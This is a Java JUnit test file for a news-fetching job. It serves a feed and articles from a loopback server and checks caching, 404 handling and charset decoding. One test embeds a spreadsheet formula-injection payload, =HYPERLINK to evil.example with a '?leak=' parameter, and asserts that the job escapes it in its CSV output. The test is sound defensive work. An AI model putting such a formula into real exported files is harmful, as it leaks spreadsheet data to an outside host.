package io.roundup.job;

import com.sun.net.httpserver.HttpServer;
import io.roundup.RoundupApplication;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;

import static org.assertj.core.api.Assertions.assertThat;

/** fetchNews in the job: a feed on a loopback server, its article read and extracted like a local page. */
class FetchNewsJobTest {

    private HttpServer server;
    private final Map<String, AtomicInteger> hits = new ConcurrentHashMap<>();
    private String base;
    /** More pages: path → Content-Type and body. */
    private final Map<String, Map.Entry<String, byte[]>> pages = new ConcurrentHashMap<>();

    private static final String ARTICLE = """
            <html><head><title>Mistral AI raises €1.7 billion | Loopback News</title>
            <meta property="article:published_time" content="2025-09-09T07:00:00Z"></head>
            <body><nav><a href="/">Home</a> <a href="/deals">Deals</a></nav>
            <article><h1>Mistral AI raises €1.7 billion</h1>
            <p>Mistral AI said on Tuesday that it had raised €1.7 billion in a Series C round led by ASML,
            valuing the Paris-based model developer at €11.7 billion after the investment.</p>
            <p>The company plans to spend the money on research and on computing capacity in Europe, and it
            expects to keep hiring engineers in Paris, London and Palo Alto over the coming year.</p>
            </article><aside>Most read: Another lab raised $5 billion</aside></body></html>
            """;

    @BeforeEach
    void serve() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        base = "http://127.0.0.1:" + server.getAddress().getPort();
        String feed = """
                <?xml version="1.0" encoding="UTF-8"?>
                <rss version="2.0"><channel><title>Loopback News</title><link>%1$s/</link>
                <item><title>Mistral AI raises</title><link>%1$s/mistral.html</link>
                <pubDate>Tue, 09 Sep 2025 07:00:00 GMT</pubDate></item>
                <item><title>Gone</title><link>%1$s/gone.html</link></item>
                </channel></rss>
                """.formatted(base);
        server.createContext("/", exchange -> {
            String path = exchange.getRequestURI().getPath();
            hits.computeIfAbsent(path, k -> new AtomicInteger()).incrementAndGet();
            byte[] body;
            int status = 200;
            switch (path) {
                case "/feed.xml" -> {
                    body = feed.getBytes(StandardCharsets.UTF_8);
                    exchange.getResponseHeaders().add("Content-Type", "application/rss+xml");
                }
                case "/mistral.html" -> {
                    body = ARTICLE.getBytes(StandardCharsets.UTF_8);
                    exchange.getResponseHeaders().add("Content-Type", "text/html; charset=utf-8");
                    exchange.getResponseHeaders().add("ETag", "\"v1\"");
                    if ("\"v1\"".equals(exchange.getRequestHeaders().getFirst("If-None-Match"))) {
                        exchange.sendResponseHeaders(304, -1);
                        exchange.close();
                        return;
                    }
                }
                default -> {
                    Map.Entry<String, byte[]> page = pages.get(path);
                    status = page == null ? 404 : 200;
                    body = page == null ? "not here".getBytes(StandardCharsets.UTF_8) : page.getValue();
                    if (page != null) exchange.getResponseHeaders().add("Content-Type", page.getKey());
                }
            }
            exchange.sendResponseHeaders(status, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    @Test
    void feedArticlesAreFetchedOnceReadAndExtracted(@TempDir Path dir) throws Exception {
        Path input = Files.createDirectories(dir.resolve("input"));
        Files.copy(Path.of("input/companies.csv"), input.resolve("companies.csv"));
        Files.writeString(input.resolve("sources.csv"), "url,kind\n" + base + "/feed.xml,feed\n");
        Path out = dir.resolve("out");
        String[] args = {"--roundup.input=" + input, "--roundup.output=" + out, "--roundup.fetch.allow-loopback=true",
                "--roundup.fetch.contact=mailto:ops@example.org", "runDate=2025-09-10"};

        assertThat(RoundupApplication.run(args)).isEqualTo(ExitCodes.COMPLETED_WITH_REJECTS);

        String mentions = Files.readString(out.resolve("mentions.csv"));
        assertThat(mentions).contains(base + "/mistral.html,Mistral AI,funding_round,completed,1700000000,EUR")
                .doesNotContain("5000000000");
        assertThat(Files.readString(out.resolve("rejects.csv"))).contains(base + "/gone.html").contains("http_404")
                .contains("fetchNews");
        try (var raw = Files.list(out.resolve("raw"))) {
            assertThat(raw.map(p -> p.getFileName().toString())).anyMatch(n -> n.matches("[0-9a-f]{64}\\.html"));
        }
        assertThat(hits.get("/mistral.html")).hasValue(1);

        // another day's run asks again but downloads nothing it already holds
        args[args.length - 1] = "runDate=2025-09-11";
        assertThat(RoundupApplication.run(args)).isEqualTo(ExitCodes.COMPLETED_WITH_REJECTS);
        assertThat(hits.get("/mistral.html").get()).isLessThanOrEqualTo(2);
        assertThat(Files.readString(out.resolve("mentions.csv"))).isEqualTo(mentions);
    }

    /** Runs the job on a fresh input whose sources.csv lists these article paths; returns the output folder. */
    private Path runOn(Path dir, String... paths) throws IOException {
        Path input = Files.createDirectories(dir.resolve("input"));
        Files.copy(Path.of("input/companies.csv"), input.resolve("companies.csv"));
        StringBuilder list = new StringBuilder("url,kind\n");
        for (String p : paths) list.append(base).append(p).append(",article\n");
        Files.writeString(input.resolve("sources.csv"), list);
        Path out = dir.resolve("out");
        assertThat(RoundupApplication.run("--roundup.input=" + input, "--roundup.output=" + out,
                "--roundup.fetch.allow-loopback=true", "runDate=2025-09-10")).isIn(ExitCodes.COMPLETED, ExitCodes.COMPLETED_WITH_REJECTS);
        return out;
    }

    private static Map<String, String> documentTitles(Path out) throws Exception {
        Map<String, String> titles = new java.util.TreeMap<>();
        try (var c = java.sql.DriverManager.getConnection("jdbc:h2:file:" + out.toAbsolutePath() + "/roundup", "sa", "");
             var rs = c.createStatement().executeQuery("SELECT file, title FROM documents")) {
            while (rs.next()) titles.put(rs.getString(1), rs.getString(2));
        }
        return titles;
    }

    @Test
    void aPageWhoseCharsetOnlyTheHeaderNamesIsReadInThatCharset(@TempDir Path dir) throws Exception {
        String zh = "智谱完成新一轮融资";
        String tw = "智譜完成新一輪融資";
        String ja = "東京の新興企業が資金調達";
        String zhPara = "北京智谱华章科技有限公司今天宣布完成新一轮融资，投资方包括多家机构，资金将用于大模型研发与算力建设，并继续扩大研发团队。";
        String twPara = "北京智譜華章科技有限公司今天宣布完成新一輪融資，投資方包括多家機構，資金將用於大模型研發與算力建設，並繼續擴大研發團隊。";
        String jaPara = "東京の人工知能企業は本日、新たな資金調達を完了したと発表した。調達した資金は大規模言語モデルの研究開発と計算資源の拡充に充てる。";
        serve("/gbk.html", "text/html; charset=GBK", zh, zhPara, "GBK");
        serve("/big5.html", "text/html; charset=Big5", tw, twPara, "Big5");
        serve("/sjis.html", "text/html; charset=Shift_JIS", ja, jaPara, "Shift_JIS");

        Path out = runOn(dir, "/gbk.html", "/big5.html", "/sjis.html");

        assertThat(documentTitles(out)).as(Files.readString(out.resolve("rejects.csv"))).containsEntry(base + "/gbk.html", zh).containsEntry(base + "/big5.html", tw)
                .containsEntry(base + "/sjis.html", ja);
    }

    private void serve(String path, String contentType, String title, String para, String charset) {
        String html = "<html><head><title>" + title + "</title></head><body><article><h1>" + title + "</h1><p>1 " + para
                + "</p><p>2 " + para + "</p><p>3 " + para + "</p></article></body></html>";
        pages.put(path, Map.entry(contentType, html.getBytes(java.nio.charset.Charset.forName(charset))));
    }

    @Test
    void aSentenceStartingWithAFormulaIsWrittenAsText(@TempDir Path dir) throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Mistral AI\")";
        String page = ARTICLE.replace("<p>Mistral AI said on Tuesday", "<p>" + formula + " Mistral AI said on Tuesday");
        pages.put("/formula.html", Map.entry("text/html; charset=utf-8", page.getBytes(StandardCharsets.UTF_8)));

        Path out = runOn(dir, "/formula.html");

        String mentions = Files.readString(out.resolve("mentions.csv"));
        String events = Files.readString(out.resolve("funding_events.csv"));
        for (String csv : List.of(mentions, events)) {
            // the evidence keeps the formula (the extractor drops the bare URL inside it) behind a quote
            assertThat(csv).contains(",\"'=HYPERLINK(\"\"").doesNotContain(",\"=HYPERLINK")
                    .doesNotContain(",=HYPERLINK");
        }
        assertThat(mentions).contains(",1700000000,EUR,"); // the amount is still a number
    }
}
